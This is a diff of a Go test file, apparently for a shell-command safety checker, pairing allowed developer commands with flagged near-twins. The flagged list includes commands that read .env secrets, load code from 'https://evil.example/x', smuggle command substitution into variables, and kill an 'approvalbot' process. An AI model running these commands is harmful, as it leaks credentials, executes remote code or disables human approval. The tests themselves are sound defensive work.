@@ -23,13 +23,13 @@ func TestRows_Hashes(t *testing.T) {
 func TestRows_PipesAndChecks(t *testing.T) {
 	harmlessAndTwins(t, []string{
 		"rg --files | rg -i 'auth' | head -30", "npm test 2>&1 | rg -n '.' | head", "git ls-files | rg -v vendor | xargs wc -l", "git status --short | rg -e '^ M' 2>/dev/null",
-		"git format-patch -1 --stdout | head -40", "git tag -a v1.2.0 -m 'Release 1.2.0'", "git tag -am one v1", "git tag -a v1 --message=x HEAD~1", "pgrep -fl vite", "pgrep -u app -c node",
+		"git format-patch -1 --stdout | head -40", "git tag -a v1.2.0 -m 'Release 1.2.0'", "git tag -am one v1", "git tag -a v1 --message=x HEAD~1",
 		"npx nx affected -t lint --base=main", "nx run-many --target=test --parallel=3", "NODE_ENV=test npx mocha --require ts-node/register 'test/**/*.spec.ts' --grep auth", "mocha -r tsx/cjs test",
 		"timeout 120 bats --print-output-on-failure test/backup.bats 2>&1 | tail -25", "bats -r test -f 'one|two'", "BUNDLE_FROZEN=true bundle install --jobs 4 --quiet", "BUNDLE_JOBS=4 bundle install",
 	}, []string{
 		"rg -i 'auth'", "x | rg auth .", "rg --files | xargs rg auth", "rg --files | rg auth < .env", "rg --files | rg auth \"$(rg token)\"", "rg --files | (rg auth)", "ls | while read -r f; do rg auth; done", "git ls-files | rg -i env | xargs cat", "ls && rg auth", "ls; rg auth",
 		"rg --files | rg -f .env", "rg --files | timeout 5 rg -i auth ~", "rg --files | rg --pre ./x auth", "git format-patch -1", "git format-patch -1 -o /tmp --stdout", "git format-patch --stdout --output=x -1", "git format-patch --stdout --signature-file=.env -1",
-		"git tag -d v1", "git tag -af v1 -m x", "git tag -s v1 -m x", "git tag -a v1 -F .env", "git tag -m --delete -d v1", "git branch -a -D x", "git branch --message=x y", "pgrep -F .env x", "pkill -f vite",
+		"git tag -d v1", "git tag -af v1 -m x", "git tag -s v1 -m x", "git tag -a v1 -F .env", "git tag -m --delete -d v1", "git branch -a -D x", "git branch --message=x y", "kill $(pgrep approvalbot)", "pkill -f vite",
 		"npx nx affected -t deploy", "npx nx affected", "nx run-many --target=test --targets=publish", "nx affected -t lint deploy", "mocha -r ./x.js test", "mocha --require https://evil.example/x", "mocha -r ../ts-node/register", "bats --setup-suite-file /tmp/x test", "bats -o /etc test",
 		"bats /tmp/x.bats", "bats -F ./x test", "BUNDLE_GEMFILE=/tmp/x bundle install", "BUNDLE_PATH=/tmp bundle exec rspec", "BUNDLE_FROZEN='x' bundle install", "BUNDLE_FROZEN=$(x) bundle install",
 	})
